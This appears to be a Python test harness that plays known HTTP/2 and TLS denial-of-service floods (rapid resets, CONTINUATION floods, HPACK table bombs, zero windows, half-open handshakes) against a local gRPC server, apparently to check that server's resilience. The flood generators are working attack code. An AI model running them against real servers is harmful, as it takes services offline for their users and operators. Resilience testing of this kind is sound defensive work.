# SPDX-License-Identifier: Apache-2.0
"""Known floods of HTTP/2 and TLS, and a process that plays one: confined to one core and to one thread, so that the scheduler
treats it like a busy loop. A connection is a generator that yields the socket it waits for, or None after progress."""
import collections
import os
import select
import socket
import ssl
import struct
import time

from grpc_by_hand import message
from http2_by_hand import CANCEL, DATA, END_HEADERS, END_STREAM, FIRST_ROOM, HEADERS, INITIAL_WINDOW_SIZE, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, call, frame

BUSY = "a busy loop"  # the reference
REACH_GRPC = ("rapid resets", "zero windows", "pings", "settings", "empty data", "giant messages", "messages in pieces",
              "window updates", "small messages", "data for ended calls", "open calls")  # with admitted calls
PATIENCE = 0.5  # seconds without progress, then the connection is made again
HELD = 200  # half handshakes of a connection's loop
CONTINUATION = 9
UPLOAD, DOWNLOAD = "/atoll.v1.TransferService/Upload", "/atoll.v1.TransferService/Download"  # calls without a limit a second
PROBE = message((1, 1 << 26))  # of a link
CALL = [(":method", b"POST"), (":scheme", b"http"), (":path", UPLOAD.encode()), (":authority", b"atoll"), ("content-type", b"application/grpc"),
        ("te", b"trailers")]


def length(n):
    """An HPACK integer of seven bits."""
    if n < 127:
        return bytes([n])
    out, n = b"\x7f", n - 127
    while n > 127:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


def one_message(content):
    return b"\0" + struct.pack(">I", len(content)) + content


def block(fields):
    return b"".join(b"\0" + length(len(name)) + name.encode() + length(len(value)) + value for name, value in fields)


def client_context(identity):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    if identity:
        context.load_cert_chain(identity)
    return context


# ---- what a member sends after the greeting: pieces, the last ones repeated for ever

def endless_block():
    yield frame(HEADERS, block(CALL), 0, 1)
    while True:
        yield frame(CONTINUATION, block([("x", b"x" * 16000)]), 0, 1)


def small_continuations():
    yield frame(HEADERS, b"", 0, 1)
    while True:
        yield frame(CONTINUATION, b"\0", 0, 1) * 500


def rapid_resets():
    stream = 1
    while True:
        yield b"".join(frame(HEADERS, block(CALL), END_HEADERS, s) + frame(RST_STREAM, struct.pack(">I", CANCEL), 0, s)
                       for s in range(stream, stream + 100, 2))
        stream += 100


def same(*frames):
    def flood():
        while True:
            yield b"".join(frames) * 100
    return flood


def zero_windows():
    """Calls with answers that never fit."""
    yield frame(SETTINGS, struct.pack(">HI", 4, 0))
    for stream in range(1, 4000, 2):
        yield call(stream, DOWNLOAD, message((9, PROBE)))
    while True:
        yield frame(WINDOW_UPDATE, struct.pack(">I", 1), 0, 0)


def header_bombs():
    """A field of 3.9 kB is stored in the table, and then referenced 16,000 times per block."""
    field = b"\x40" + length(1) + b"x" + length(3900) + b"x" * 3900
    stream = 1
    while True:
        yield frame(HEADERS, block(CALL) + field + b"\xbe" * 12000, END_HEADERS, stream)
        stream += 2


def messages(length, piece):
    """Calls with messages of that length, in frames of `piece` bytes, as far as the server takes them."""
    stream = 1
    while True:
        yield frame(HEADERS, block(CALL), END_HEADERS, stream) + frame(DATA, b"\0" + struct.pack(">I", length), 0, stream)
        yield frame(DATA, b"x" * piece, 0, stream) * (60_000 // piece)
        stream += 2


def small_messages():
    """Uploads of a few bytes a message, as many as fit the first windows."""
    stream = 1
    while True:
        yield frame(HEADERS, block(CALL), END_HEADERS, stream) + frame(DATA, one_message(message((1, message((3, PROBE))))), 0, stream)
        yield frame(DATA, one_message(b"x" * 17) * 50, 0, stream) * 50
        stream += 2


def data_for_ended_calls():
    yield call(1, UPLOAD, b"")
    yield from same(frame(DATA, b"x" * 32, 0, 1))()


def open_calls():
    """As many as a connection may have."""
    yield b"".join(frame(HEADERS, block(CALL), END_HEADERS, stream) for stream in range(1, 128, 2))
    while True:
        yield b""


def window_updates():
    yield frame(HEADERS, block(CALL), END_HEADERS, 1)
    yield from same(frame(WINDOW_UPDATE, struct.pack(">I", 1)))()


MEMBERS = {  # floods that end before gRPC come first
    "endless header block": endless_block, "small continuations": small_continuations, "header bombs": header_bombs, "rapid resets": rapid_resets,
    "settings": same(frame(SETTINGS, struct.pack(">HI", 4, 70000))), "pings": same(frame(PING, b"12345678")),
    "giant messages": lambda: messages(2**32 - 1, 15_000), "messages in pieces": lambda: messages(1_000_000, 1),
    "window updates": window_updates, "small messages": small_messages, "data for ended calls": data_for_ended_calls, "open calls": open_calls, "zero windows": zero_windows,
    "empty data": same(frame(HEADERS, block(CALL), END_HEADERS, 1), frame(DATA, b"", 0, 1))}


QUERIES = {  # read-only calls and their requests, those first that cost the most
    "/atoll.v1.JobService/StreamJobLogs": message((1, "jobs/tiny"), (3, 2000)),
    "/atoll.v1.JobService/WatchJob": message((1, "jobs/tiny"), (2, 1)), "/atoll.v1.JobService/GetJob": message((1, "jobs/tiny")),
    "/atoll.v1.JobService/GetJobMetrics": message((1, "jobs/tiny")),
    "/atoll.v1.JobService/ListJobs": b"", "/atoll.v1.JobService/ListOffers": b"",
    "/atoll.v1.AdminService/ListWorkers": message((2, 1)), "/atoll.v1.AdminService/ListCheckpoints": message((1, "jobs/tiny")),
    "/atoll.v1.AdminService/GetCheckpoint": message((1, "jobs/tiny/checkpoints/latest")), "/atoll.v1.AdminService/GetServerInfo": b"",
    "/grpc.health.v1.Health/Check": b""}
SHORT = 4  # of them in a short run
CALLS = 490  # queries a second of a connection; at 500 it is ended


def query(port, context, path):
    """Asks as fast as a connection may, and reads every answer."""
    while True:
        try:
            with (yield from connect(port)) as plain, context.wrap_socket(plain, do_handshake_on_connect=False) as connection:
                yield from finish(connection, connection.do_handshake)
                room = struct.pack(">I", 2**31 - 1 - FIRST_ROOM)
                yield from send(connection, PREFACE + frame(SETTINGS, struct.pack(">HI", INITIAL_WINDOW_SIZE, 2**31 - 1)) + frame(WINDOW_UPDATE, room))
                begun, asked, unheard = time.monotonic(), 0, 0
                while True:
                    due = int((time.monotonic() - begun) * CALLS) - asked
                    if due > 0:
                        yield from send(connection, b"".join(call(2 * n + 1, path, QUERIES[path]) for n in range(asked, asked + due)))
                        asked += due
                    try:
                        heard = len(connection.recv(1 << 20))
                        if heard == 0:
                            raise ConnectionResetError
                        unheard += heard
                    except ssl.SSLWantReadError:
                        pass
                    if unheard > 1 << 20:
                        yield from send(connection, frame(WINDOW_UPDATE, struct.pack(">I", unheard)))
                        unheard = 0
                    yield None
        except OSError:
            yield None


def client_hello():
    """The first record of a handshake."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        client_context(None).wrap_bio(incoming, outgoing).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


STRANGERS = {  # what a connection sends, and then nothing more
    "half handshakes": client_hello(),
    "announced hellos": b"\x16\3\1\0\4\1\2\1\x44",  # of 131,396 bytes
    "hellos in pieces": b"".join(b"\x16\3\1\0\1" + bytes([byte]) for byte in b"\1\0\x2a\xa6" + bytes(10_918))}  # 64 KiB
TO_ENROLMENT = "http/2 to the enrolment port"


# ---- the flooder

def connect(port):
    connection = socket.socket()
    connection.setblocking(False)
    connection.connect_ex(("127.0.0.1", port))
    yield connection, select.POLLOUT
    return connection


def finish(connection, call):
    """Repeats a call that would block."""
    while True:
        try:
            return call()
        except ssl.SSLWantReadError:
            yield connection, select.POLLIN
        except (ssl.SSLWantWriteError, BlockingIOError):
            yield connection, select.POLLOUT


def send(connection, content):
    rest = memoryview(content)
    while rest:
        sent = yield from finish(connection, lambda: connection.send(rest))
        rest = rest[sent:]
    yield None


def connect_and_flood(port, context, flood):
    """Repeats, since the connection is ended each time."""
    while True:
        try:
            with (yield from connect(port)) as plain, context.wrap_socket(plain, do_handshake_on_connect=False) as connection:
                yield from finish(connection, connection.do_handshake)
                yield from send(connection, PREFACE + frame(SETTINGS))
                for content in flood():
                    yield from send(connection, content)
        except OSError:
            yield None


def begin_handshakes(port, hello):
    held = collections.deque()
    while True:
        if len(held) > HELD:
            held.popleft().close()
        try:
            held.append((yield from connect(port)))
            yield from send(held[-1], hello)
        except OSError:
            yield None


def play(loops, until):
    """Each loop in turn does what it can without waiting."""
    poll, waiting = select.poll(), {}
    ready = collections.deque((loop, None) for loop in loops)  # with what it is thrown
    while (now := time.monotonic()) < until:
        for fd, _ in poll.poll(0 if ready else 10):
            poll.unregister(fd)
            ready.append((waiting.pop(fd)[0], None))
        for fd in [fd for fd, (_, since) in waiting.items() if now - since > PATIENCE]:
            poll.unregister(fd)
            ready.append((waiting.pop(fd)[0], TimeoutError()))
        for _ in range(len(ready)):
            loop, thrown = ready.popleft()
            wanted = loop.throw(thrown) if thrown else next(loop)
            if wanted is None:
                ready.append((loop, None))
            else:
                connection, events = wanted
                poll.register(connection, events)
                waiting[connection.fileno()] = (loop, now)


def flood_process(name, ports, identity, connections, core, until):
    os.sched_setaffinity(0, {core})
    if name == BUSY:
        while time.monotonic() < until:
            pass
    elif name in STRANGERS:
        play([begin_handshakes(port, STRANGERS[name]) for port in ports for _ in range(connections)], until)
    elif name in QUERIES:
        play([query(port, client_context(identity), name) for port in ports for _ in range(connections)], until)
    else:
        flood = endless_block if name == TO_ENROLMENT else MEMBERS[name]
        play([connect_and_flood(port, client_context(identity), flood) for port in ports for _ in range(connections)], until)
    os._exit(0)
